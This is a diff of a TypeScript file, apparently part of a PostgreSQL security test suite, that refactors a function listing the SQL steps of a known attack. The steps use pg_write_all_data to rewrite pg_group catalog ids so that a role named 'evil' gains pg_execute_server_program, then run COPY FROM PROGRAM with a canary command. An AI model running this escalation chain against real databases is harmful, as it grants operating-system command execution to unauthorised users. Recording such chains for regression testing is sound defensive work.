@@ -7,15 +7,17 @@ export const withoutGuard = `
   WHERE oid < 10000 AND oid <> 10;`;
 
 /** Fault 1 of the attack on f796a9c, statement for statement, and its kind. */
-export const wayOut = ({ canaries }: Pick<Target, 'canaries'>): readonly string[] => [
-  `GRANT pg_write_all_data TO ${MASTER}`,
-  'CREATE ROLE evil NOLOGIN',
-  `UPDATE pg_catalog.pg_group SET grosysid=90001 WHERE groname='pg_execute_server_program'`,
-  `UPDATE pg_catalog.pg_group SET grosysid=4571 WHERE groname='evil'`,
-  `GRANT evil TO ${MASTER}`,
-  'CREATE TABLE o(t text)',
-  `COPY o FROM PROGRAM '${canaries.program}'`,
-];
+export function wayOut({ canaries }: Pick<Target, 'canaries'>): readonly string[] {
+  return [
+    `GRANT pg_write_all_data TO ${MASTER}`,
+    'CREATE ROLE evil NOLOGIN',
+    `UPDATE pg_catalog.pg_group SET grosysid=90001 WHERE groname='pg_execute_server_program'`,
+    `UPDATE pg_catalog.pg_group SET grosysid=4571 WHERE groname='evil'`,
+    `GRANT evil TO ${MASTER}`,
+    'CREATE TABLE o(t text)',
+    `COPY o FROM PROGRAM '${canaries.program}'`,
+  ];
+}
 
 /** The same kind: other views on shared catalogs, and locks that keep everybody out. */
 export const alsoByViews: readonly string[] = [
